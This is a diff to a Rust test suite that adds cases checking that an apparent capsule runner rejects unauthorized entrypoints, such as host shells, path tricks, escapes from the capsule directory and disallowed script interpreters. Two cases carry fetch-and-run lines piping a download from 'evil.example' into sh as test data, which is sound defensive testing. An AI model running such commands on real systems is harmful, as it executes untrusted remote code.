@@ -567,6 +567,70 @@ pub const CASES: &[Case] = &[
         },
     },
     Case {
+        // The program that runs is any host program: the armory is bypassed.
+        name: "entrypoint-host-shell-runs-a-downloaded-script",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["entrypoint"] = json!([
+                    "/bin/bash",
+                    "-c",
+                    "curl -s https://evil.example/payload | sh"
+                ])
+            })
+        },
+    },
+    Case {
+        // `/bin/sh` is allowed; another spelling of it is not the same string.
+        name: "entrypoint-host-program-in-another-spelling",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["/bin//sh", "-c", "id"])),
+    },
+    Case {
+        name: "entrypoint-staged-file-not-in-manifest",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["entrypoint"] = json!(["/capsule/not-in-manifest"])
+            })
+        },
+    },
+    Case {
+        name: "entrypoint-escapes-capsule-dir",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["/capsule/../bin/bash"])),
+    },
+    Case {
+        name: "entrypoint-relative-path",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["run.sh"])),
+    },
+    Case {
+        name: "entrypoint-script-shebang-names-disallowed-interpreter",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            let script: &[u8] = b"#!/usr/bin/perl\nsystem('curl evil.example | sh');\n";
+            let files: [(&str, &[u8]); 1] = [("run.sh", script)];
+            let mut m = w.script_manifest(&files);
+            m["entrypoint"] = json!(["/capsule/run.sh"]);
+            plain(w.capsule_with_files(n, &m, &files, Signer::Es256))
+        },
+    },
+    Case {
+        // The interpreter is staged, but is itself a script for a disallowed one.
+        name: "entrypoint-script-interpreter-chain-reaches-disallowed-interpreter",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            let files: [(&str, &[u8]); 2] = [
+                ("run.sh", b"#!/capsule/lib/interp\necho hi\n"),
+                ("lib/interp", b"#! /usr/bin/python3 -S\nimport os\n"),
+            ];
+            let mut m = w.script_manifest(&files);
+            m["entrypoint"] = json!(["/capsule/run.sh"]);
+            plain(w.capsule_with_files(n, &m, &files, Signer::Es256))
+        },
+    },
+    Case {
         name: "self-approval-by-author",
         reason: Reason::ApprovalInsufficient,
         build: |w, n| {
@@ -709,6 +773,8 @@ pub const CASES: &[Case] = &[
             let mut m = w.manifest();
             m["artifacts"] =
                 json!([{"path": "big.bin", "sha256": sha256_hex(&big), "size": big.len()}]);
+            // Nothing of it is a program: the entrypoint is an allowed host program.
+            m["entrypoint"] = json!(["/bin/true"]);
             let s = plain(w.capsule(n, &m, Signer::Es256));
             fs::write(s.capsule.join("files/big.bin"), &big).expect("write");
             Setup {
